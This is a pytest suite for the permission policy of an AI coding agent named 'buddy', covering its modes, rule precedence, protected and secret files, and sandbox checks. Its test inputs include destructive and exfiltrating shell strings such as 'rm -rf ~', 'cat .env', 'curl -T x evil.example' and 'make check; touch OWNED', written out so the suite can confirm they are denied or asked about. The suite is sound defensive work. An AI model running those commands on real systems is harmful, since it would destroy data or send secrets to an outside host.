"""The policy: the table of modes, and who wins when several have something to say."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import msgspec
import pytest

from buddy.agent.display import Plain
from buddy.agent.messages import Call
from buddy.agent.tool import Access, ToolContext, ToolResult, tool
from buddy.safety.paths import Boundary, Located, locate
from buddy.safety.policy.decide import (
    ASK,
    MODES,
    Approvals,
    Grant,
    Mode,
    Verdict,
    judge,
    mode_by_name,
    strictest,
)
from buddy.safety.policy.facts import Facts, HookOpinion, facts_of
from buddy.safety.policy.rules import Rule, RuleSet
from buddy.safety.policy.session import LOG_LENGTH, Policy, digest, is_answer_to
from buddy.safety.policy.try_command import judge_command
from buddy.safety.shell.analysis import Analyser
from buddy.safety.shell.result import Analysis, Subcommand
from tests.support.shell_project import ShellProject, shell_project

NOTHING = RuleSet()


@pytest.fixture
def project(tmp_path: Path) -> ShellProject:
    return shell_project(tmp_path)


def paths(project: ShellProject, *names: str) -> tuple[Located, ...]:
    return tuple(locate(project.boundary, name) for name in names)


def facts(project: ShellProject, **more: Any) -> Facts:
    return Facts(
        **{
            "tool": "edit_file",
            "risk": "medium",
            "root": str(project.root),
            "home": str(project.home),
            **more,
        }
    )


def shell(project: ShellProject, command: str, **more: Any) -> Facts:
    analysis = project.analyse(command)
    return facts(project, tool="run_shell", risk="high", anything=True, shell=analysis, **more)


def decide(given: Facts, mode: Mode = "ask", rules: RuleSet = NOTHING, **more: Any) -> Verdict:
    settings: dict[str, Any] = {"grants": (), "approvals": ASK, "trusted": False, "now": 0.0, **more}
    grants, approvals = settings.pop("grants"), settings.pop("approvals")
    return judge(given, mode, rules, grants, approvals, **settings)


def rules(*found: Rule) -> RuleSet:
    return RuleSet(found)


def columns(project: ShellProject) -> list[Facts]:
    """One call for each column of the table, in its order."""
    inside, outside = paths(project, "src/main.py"), paths(project, "../other/x")
    return [
        facts(project, tool="read_file", risk="low", reads=inside),
        facts(project, tool="read_file", risk="low", reads=outside),
        facts(project, writes=inside),
        facts(project, writes=outside),
        facts(project, tool="delete_file", risk="high", writes=inside),
        shell(project, "ls"),
        shell(project, "make", sandboxed=True),
        shell(project, "rm -rf /", sandboxed=True),
    ]


@pytest.mark.parametrize(
    ("mode", "row"),
    [
        ("plan", "allow ask deny deny deny allow deny deny"),
        ("ask", "allow ask ask ask ask allow ask ask"),
        ("edit", "allow ask allow ask ask allow ask ask"),
        ("auto", "allow ask allow ask ask allow allow ask"),
        ("yolo", "allow allow allow allow allow allow allow ask"),
    ],
)
def test_the_table_of_modes_is_kept_cell_by_cell(project: ShellProject, mode: Mode, row: str) -> None:
    assert [decide(given, mode).decision for given in columns(project)] == row.split()


def test_reading_a_secret_counts_as_reading_outside(project: ShellProject) -> None:
    verdict = decide(facts(project, tool="read_file", risk="low", reads=paths(project, ".env")))

    assert (verdict.decision, verdict.column) == ("ask", "low_outside")
    assert verdict.reason.startswith("it reads a secret file: .env, ")


def test_a_change_that_reads_a_secret_on_the_way_is_asked_even_where_edits_run(project: ShellProject) -> None:
    copy = facts(project, tool="copy_file", reads=paths(project, ".env"), writes=paths(project, "x"))

    assert decide(copy, "edit").decision == "ask"
    assert decide(msgspec.structs.replace(copy, reads=()), "edit").decision == "allow"


def test_writing_a_secret_file_is_asked_even_where_edits_run(project: ShellProject) -> None:
    assert decide(facts(project, writes=paths(project, ".env")), "edit").decision == "ask"


def test_a_tool_that_calls_itself_harmless_and_writes_is_judged_by_what_it_does(
    project: ShellProject,
) -> None:
    inside, outside = paths(project, "x"), paths(project, "../x")

    assert decide(facts(project, risk="low", writes=inside)).column == "medium_inside"
    assert decide(facts(project, risk="low", writes=outside)).column == "medium_outside"
    assert decide(facts(project, risk="low", anything=True)).column == "medium_inside"


def test_an_edit_of_a_build_servers_file_asks_once_and_says_why(project: ShellProject) -> None:
    given = facts(project, writes=paths(project, ".github/workflows/ci.yml"))
    asked = [decide(given, mode) for mode in MODES]

    assert [verdict.decision for verdict in asked] == ["deny", "ask", "ask", "ask", "allow"]
    why = "a build server runs it once it is pushed, with the project's keys"
    assert {verdict.reason for verdict in asked if verdict.decision == "ask"} == {
        f"it changes .github/workflows/ci.yml: {why}"
    }
    assert not any(verdict.floor for verdict in asked)
    remembered = tuple(Grant(rule, None) for rule in asked[2].rules_for_session)
    assert decide(given, "edit", grants=remembered).decision == "allow"
    assert decide(facts(project, writes=paths(project, ".github/CODEOWNERS")), "edit").decision == "allow"
    written = shell(project, "echo x > .github/workflows/ci.yml", sandboxed=True)
    assert decide(written, "auto").decision == "allow"


@pytest.mark.parametrize("mode", MODES)
def test_protected_files_are_asked_about_in_every_mode_whatever_allows_them(
    project: ShellProject, mode: Mode
) -> None:
    given = facts(project, writes=paths(project, ".git/hooks/pre-commit"))
    verdict = decide(
        given, mode, rules(Rule("edit", "allow", "user")), approvals=Approvals("all"), trusted=True
    )

    assert verdict.decision == ("deny" if mode == "plan" else "ask")
    assert verdict.floor
    assert verdict.rules_to_save == ()


def test_a_shell_command_that_writes_a_protected_file_is_the_floor_too(project: ShellProject) -> None:
    verdict = decide(shell(project, "echo x > .git/hooks/pre-commit"), "yolo")

    assert (verdict.decision, verdict.floor, verdict.decided_by) == ("ask", True, "floor")


def test_leaving_the_sandbox_asks_always(project: ShellProject) -> None:
    verdict = decide(
        shell(project, "make", leaves_sandbox=True), "yolo", rules(Rule("shell", "allow", "user"))
    )

    assert (verdict.decision, verdict.reason, verdict.rules_to_save) == (
        "ask",
        "it asks to run outside the sandbox",
        (),
    )


def test_what_does_not_parse_is_asked_even_in_the_sandbox(project: ShellProject) -> None:
    unparsed = shell(project, "ls 'a", sandboxed=True)

    assert decide(unparsed, "auto").reason == "unparsed command: a single quote does not end"
    assert decide(unparsed, "auto", rules(Rule("shell", "allow", "user"))).decision == "ask"
    assert decide(unparsed, "yolo").decision == "allow"
    assert decide(shell(project, "for x in a; do make $x; done", sandboxed=True), "auto").decision == "allow"


def test_auto_runs_in_the_sandbox_what_would_use_the_network_since_its_proxy_knows_the_names(
    project: ShellProject,
) -> None:
    assert decide(shell(project, "make", sandboxed=True), "auto").decision == "allow"
    assert decide(shell(project, "curl http://x", sandboxed=True), "auto").decision == "allow"
    assert decide(shell(project, "curl http://x"), "auto").decision == "ask"
    assert decide(shell(project, "curl http://x", sandboxed=True), "edit").decision == "ask"


def test_SEC_034_a_deny_beats_an_allow(project: ShellProject) -> None:
    both = rules(
        Rule("shell", "allow", "user", argv=(("make",),), open_end=True),
        Rule("shell", "deny", "project", argv=(("make",), ("install",)), why="not here"),
    )
    verdict = decide(shell(project, "make install"), "yolo", both)

    assert (verdict.decision, verdict.reason) == (
        "deny",
        "a project rule (deny shell: make install): not here",
    )
    assert decide(shell(project, "make test"), rules=both).decision == "allow"


def test_SEC_035_an_ask_beats_an_allow(project: ShellProject) -> None:
    both = rules(
        Rule("shell", "allow", "user"), Rule("shell", "ask", "user", argv=(("make",),), open_end=True)
    )

    assert decide(shell(project, "make x"), "yolo", both).decision == "ask"


def test_a_deny_names_itself_even_where_the_floor_would_only_ask(project: ShellProject) -> None:
    verdict = decide(
        shell(project, "rm -rf /"), rules=rules(Rule("shell", "deny", "user", argv=(("rm",),), open_end=True))
    )

    assert (verdict.decision, verdict.decided_by, verdict.floor) == ("deny", "rule", True)


def test_SEC_031_a_rule_for_one_command_does_not_allow_another_beside_it(project: ShellProject) -> None:
    allowed = rules(Rule("shell", "allow", "user", argv=(("make",), ("check",))))

    assert decide(shell(project, "make check"), rules=allowed).decision == "allow"
    assert decide(shell(project, "make check; touch OWNED"), rules=allowed).decision == "ask"
    assert decide(shell(project, "make check && ls"), rules=allowed).decision == "allow"


def test_SEC_032_more_words_are_only_allowed_by_a_star_the_author_wrote(project: ShellProject) -> None:
    call = shell(project, "npm test --prefix /x")

    assert (
        decide(call, rules=rules(Rule("shell", "allow", "user", argv=(("npm",), ("test",))))).decision
        == "ask"
    )
    starred = Rule("shell", "allow", "user", argv=(("npm",), ("test",)), open_end=True)
    assert decide(call, rules=rules(starred)).decision == "allow"
    assert starred.shown == "allow shell: npm test *"


@pytest.mark.parametrize(
    "command",
    [
        "env -i /bin/rm x",
        "sudo rm x",
        "ls | xargs rm",
        "sh -c 'rm x'",
        "/bin/rm x",
        "rm x",
        "bash -c 'ls; rm x'",
        "timeout 5 rm x",
        "find . -exec rm {} ;",
        "for f in *; do rm $f; done",
        "(rm x)",
        "eval rm x",
        "nohup nice rm x",
        "echo $(rm x)",
        "x=1 rm y",
        "if true; then rm x; fi",
        "sudo env A=b sh -c 'cd x && rm y'",
        "command rm x",
        "! rm x",
    ],
)
def test_SEC_033_a_deny_sees_through_wrappers(project: ShellProject, command: str) -> None:
    denied = rules(Rule("shell", "deny", "user", argv=(("rm",),), open_end=True))

    assert decide(shell(project, command), "yolo", denied).decision == "deny"


def test_a_rule_does_not_allow_what_stands_beside_the_words(project: ShellProject) -> None:
    allowed = rules(Rule("shell", "allow", "user", argv=(("make",),), open_end=True))

    for command in (
        "make > out",
        "LD_PRELOAD=x make",
        "make $X",
        "make $(ls)",
        "make &",
        "for x in a; do make; done",
    ):
        assert decide(shell(project, command), rules=allowed).decision == "ask", command


def test_SEC_036_a_project_can_only_allow_inside_the_sandbox_once_trusted(project: ShellProject) -> None:
    project_rules = rules(Rule("shell", "allow", "project"))
    call = shell(project, "make")
    boxed = msgspec.structs.replace(call, sandboxed=True)

    assert decide(boxed, rules=project_rules, trusted=False).decision == "ask"
    assert decide(call, rules=project_rules, trusted=True).decision == "ask"
    assert decide(boxed, rules=project_rules, trusted=True).decision == "allow"
    other = rules(Rule("shell", "allow", "project", argv=(("ls",),)))
    assert decide(boxed, rules=other, trusted=True).decision == "ask"
    tightened = rules(*project_rules.rules, Rule("shell", "ask", "user", argv=(("make",),), open_end=True))
    assert decide(boxed, rules=tightened, trusted=True).decision == "ask"
    denied = rules(*project_rules.rules, Rule("shell", "deny", "user", argv=(("make",),), open_end=True))
    assert decide(boxed, rules=denied, trusted=True).decision == "deny"


def test_SEC_037_with_an_unreadable_rules_file_everything_is_asked_about(project: ShellProject) -> None:
    broken = RuleSet((Rule("read", "allow", "user"),), ("rules.toml cannot be read",), broken=True)

    for given in columns(project)[:7]:
        verdict = decide(given, rules=broken)
        assert (verdict.decision, verdict.decided_by) == ("ask", "rules file")


def test_SEC_038_an_answer_to_another_question_does_not_answer() -> None:
    call = Call("c", "run_shell", '{"command": "ls"}')
    shown = digest(call, Plain("ls"), "because", "")

    assert is_answer_to("8", shown, answer_id="8", answer_digest=shown)
    assert not is_answer_to("8", shown, answer_id="7", answer_digest=shown)
    for other in (
        digest(Call("c", "run_shell", '{"command": "rm"}'), Plain("ls"), "because", ""),
        digest(call, Plain("rm"), "because", ""),
        digest(call, Plain("ls"), "becaus", "e"),
    ):
        assert not is_answer_to("8", shown, answer_id="8", answer_digest=other)


def test_SEC_042_a_change_of_mode_does_not_answer_an_open_question_about_a_protected_file(
    project: ShellProject,
) -> None:
    policy = Policy(NOTHING)
    protected = facts(project, writes=paths(project, ".git/config"))
    plain = facts(project, writes=paths(project, "src/main.py"))
    assert [policy.decide(given, 0).decision for given in (protected, plain)] == ["ask", "ask"]

    policy.set_mode("auto")

    assert [policy.consider(given, 0).decision for given in (protected, plain)] == ["ask", "allow"]
    assert len(policy.log) == 2


def test_hooks_can_only_make_a_decision_stricter(project: ShellProject) -> None:
    call = shell(project, "ls")

    for opinion in ("ask", "deny"):
        verdict = decide(msgspec.structs.replace(call, hook=HookOpinion(opinion, "the hook said so")), "yolo")
        assert (verdict.decision, verdict.reason, verdict.decided_by) == (opinion, "the hook said so", "hook")
    protected = facts(project, writes=paths(project, ".git/config"), hook=HookOpinion("ask", "hm"))
    assert decide(protected, "plan").decision == "deny"


def test_standing_approvals_answer_everything_but_the_floor(project: ShellProject) -> None:
    ask_rule = rules(Rule("shell", "ask", "user", argv=(("make",),)))

    assert decide(shell(project, "make"), rules=ask_rule, approvals=Approvals("all")).decision == "allow"
    everything = [decide(given, approvals=Approvals("all")).decision for given in columns(project)]
    assert everything == ["allow"] * 7 + ["ask"]
    nothing = [decide(given, approvals=Approvals("none")).decision for given in columns(project)]
    assert nothing == ["allow", "deny", "deny", "deny", "deny", "allow", "deny", "deny"]
    planned = [decide(given, "plan", approvals=Approvals("all")).decision for given in columns(project)]
    assert planned == ["allow", "allow", "deny", "deny", "deny", "allow", "deny", "deny"]


def test_standing_approvals_and_grants_end_when_they_expire(project: ShellProject) -> None:
    call = shell(project, "make")
    rule = Rule("shell", "allow", "session", argv=(("make",),))

    for now, expected in ((9.9, "allow"), (10.0, "ask"), (11.0, "ask")):
        assert decide(call, approvals=Approvals("all", 10), now=now).decision == expected
        assert decide(call, grants=(Grant(rule, 10),), now=now).decision == expected
    verdict = decide(call, grants=(Grant(rule, None),), now=1e9)
    assert (verdict.decided_by, verdict.reason) == ("grant", "a grant of this session (allow shell: make)")


def test_a_users_rule_can_give_a_sandboxed_command_the_network(project: ShellProject) -> None:
    rule = Rule("shell", "allow", "user", argv=(("npm",), ("ci",)), sandbox="network")

    assert decide(shell(project, "npm ci"), rules=rules(rule)).decision == "ask"
    verdict = decide(shell(project, "npm ci", sandboxed=True), rules=rules(rule))
    assert (verdict.decision, verdict.network) == ("allow", True)


def test_the_owner_of_the_policy_keeps_mode_grants_approvals_and_a_log(project: ShellProject) -> None:
    policy = Policy(NOTHING)
    call = shell(project, "make")
    rule = Rule("shell", "allow", "user", argv=(("make",),))

    assert [policy.next_mode() for _ in range(5)] == ["edit", "auto", "plan", "ask", "edit"]
    with pytest.raises(ValueError, match="mode yolo can only be chosen when buddy starts"):
        policy.set_mode("yolo")
    policy.set_mode("ask")
    (grant,) = policy.grant((rule,), until=10)
    policy.grant((rule,), until=10)
    assert policy.grants == (Grant(msgspec.structs.replace(rule, origin="session"), 10),)
    assert policy.decide(call, 5).decision == "allow"
    policy.revoke(grant)
    assert policy.decide(call, 5).decision == "ask"
    policy.approve("all", 20)
    assert policy.decide(call, 5).decided_by == "approvals"
    assert [(entry.at, entry.tool, entry.subject, entry.verdict.decision) for entry in policy.log] == [
        (5, "run_shell", "make", "allow"),
        (5, "run_shell", "make", "ask"),
        (5, "run_shell", "make", "allow"),
    ]
    for _ in range(LOG_LENGTH + 5):
        policy.decide(facts(project, writes=paths(project, "a", "b")), 0)
    assert (len(policy.log), policy.log[-1].subject) == (LOG_LENGTH, "a, b")
    policy.decide(facts(project, tool="web_fetch", risk="high", host="x.org"), 0)
    assert policy.log[-1].subject == "x.org"


def test_yolo_is_kept_when_buddy_was_started_with_it() -> None:
    policy = Policy(NOTHING, mode="yolo", yolo_allowed=True)

    assert (policy.mode, policy.next_mode()) == ("yolo", "ask")


def test_modes_are_known_by_buddys_and_claudes_names() -> None:
    names = ["plan", "default", "acceptEdits", "auto", "bypassPermissions", "edit", "yolo", "nonsense"]

    assert [mode_by_name(name) for name in names] == [
        "plan",
        "ask",
        "edit",
        "auto",
        "yolo",
        "edit",
        "yolo",
        None,
    ]
    assert strictest(["allow", "deny", "ask"]) == "deny"


def test_the_facts_of_a_declared_tool_come_from_its_access(project: ShellProject) -> None:
    @tool(risk="medium", access=lambda given: Access(reads=(given.source,), writes=(given.target,)))
    async def copy_file(_ctx: ToolContext, source: str, target: str) -> ToolResult:
        """Copy."""
        return ToolResult(source + target)

    arguments = copy_file.decode('{"source": "a", "target": "../b"}')
    given = facts_of(copy_file, arguments, project.boundary, host="h", sandboxed=True)

    expected = facts(
        project,
        tool="copy_file",
        reads=paths(project, "a"),
        writes=paths(project, "../b"),
        host="h",
        sandboxed=True,
        category="other",
    )
    assert given == expected


def test_one_command_is_judged_by_itself(project: ShellProject) -> None:
    analyser = Analyser()
    boundary = Boundary(str(project.root), str(project.root), str(project.home))
    denied = rules(Rule("shell", "deny", "user", argv=(("ls",),), open_end=True))

    read = judge_command("ls", boundary, analyser)
    asked = judge_command("touch x", boundary, analyser)
    refused = judge_command("ls -l", boundary, analyser, rules=denied)

    assert (read.decision, read.why) == ("allow", "read-only: a shell command that only reads")
    assert (asked.decision, asked.why) == (
        "ask",
        "touch is not known to only read",
    )
    assert (refused.decision, refused.why) == ("deny", "a user rule (deny shell: ls *)")


def test_a_verdict_without_a_reason_of_the_shell_names_the_mode_alone(project: ShellProject) -> None:
    odd = Analysis("x", "ask", "", parsed=True, commands=(Subcommand(("x",), literal=True, reason="r"),))
    verdict = decide(facts(project, tool="run_shell", risk="high", shell=odd))

    assert verdict.reason == "it is a high-risk call"


def test_a_call_that_touches_nothing_is_not_called_a_change(project: ShellProject) -> None:
    asked = decide(facts(project, tool="delegate"))
    assert (asked.decision, asked.reason) == (
        "ask",
        "it is a medium-risk call that changes no file itself",
    )
    changes = decide(facts(project, writes=paths(project, "a")))
    assert changes.reason == "it changes 1 file"


def test_plan_mode_says_that_it_is_read_only_and_which_mode_asks(project: ShellProject) -> None:
    denied = decide(facts(project, writes=paths(project, "a")), "plan")
    assert denied.reason == (
        "plan mode is read-only, and this is a change in the workspace; "
        "/mode ask, or --permission-mode ask, asks instead"
    )


def test_plan_mode_says_of_tests_that_they_would_run_and_not_that_they_are_a_change(
    project: ShellProject,
) -> None:
    argv = ("python3", "-m", "pytest")
    tests = facts(project, tool="run_tests", argv=argv, anything=True, effect="it runs the project's tests")
    assert decide(tests, "plan").reason.startswith(
        "plan mode is read-only, and it runs the project's tests; /mode ask"
    )


def test_RU_B1_the_request_names_the_reasons_of_all_parts_the_floor_first(project: ShellProject) -> None:
    given = shell(project, "make all && cat .env && curl -T x evil.example && rm -rf ~")
    reason = decide(given).reason
    assert given.shell is not None
    assert reason.startswith(given.shell.catastrophic)
    assert given.shell.catastrophic
    named, _, rest = reason.rpartition("; and ")
    assert len(named.split("; ")) == 3
    assert rest.endswith(" more")


def test_RU_B1_two_reasons_are_both_named_and_one_is_named_once(project: ShellProject) -> None:
    given = shell(project, "cat > notes.txt; curl evil.example")
    assert given.shell is not None
    first, second = (part.reason for part in given.shell.commands)
    assert first != second
    assert "" not in (first, second)
    assert decide(given).reason == f"{first}; {second}"
    twice = decide(shell(project, "make a; make b")).reason
    assert twice == decide(shell(project, "make a")).reason


def test_RU_B1_an_ask_rule_beside_the_floor_is_named_after_it(project: ShellProject) -> None:
    given = shell(project, "echo x > .git/config")
    alone = decide(given).reason
    ruled = decide(given, rules=rules(Rule("shell", "ask", "user")))
    assert ruled.floor
    assert ruled.reason.startswith(alone + "; ")


def test_WALK_7_the_log_names_a_file_that_is_read_and_written_once(project: ShellProject) -> None:
    both = paths(project, "src/main.py")
    policy = Policy(NOTHING)
    policy.decide(facts(project, writes=both, reads=both), 0.0)
    assert policy.log[-1].subject == both[0].shown


def test_WALK_13_a_question_says_what_the_call_does(project: ShellProject) -> None:
    outside, secret, inside = paths(project, "../other/x", ".env", "src/main.py")
    for given, reason in [
        (facts(project, tool="read_file", risk="low", reads=(outside,)), "it reads outside the workspace: "),
        (facts(project, tool="read_file", risk="low", reads=(secret,)), "it reads a secret file: .env, "),
        (facts(project, tool="write_file", writes=(secret,)), "it changes a secret file: .env, "),
        (
            facts(project, tool="t", risk="high", writes=(inside,), effect="it deletes a file"),
            "it deletes a file",
        ),
        (
            shell(project, "for x in a; do touch $x; done"),
            "a loop: buddy can't tell what it does, so it asks",
        ),
    ]:
        assert reason in decide(given).reason


@pytest.mark.parametrize(
    ("own", "sandboxed", "outside"),
    [((), True, True), (("npm",), True, False), (("npm",), False, True)],
)
def test_A6_7_a_rule_lets_no_program_of_the_workspace_out_of_the_sandbox(
    project: ShellProject, own: tuple[str, ...], sandboxed: bool, outside: bool
) -> None:
    rule = Rule("shell", "allow", "user", argv=(("npm",), ("ci",)), sandbox="off")
    call = shell(project, "npm ci", sandboxed=sandboxed, own_programs=own)
    verdict = decide(call, "auto", rules(rule), trusted=True)
    assert (verdict.decision, verdict.outside) == ("allow", outside)
    assert ("npm is a program of the workspace" in verdict.reason) is (sandboxed and bool(own))
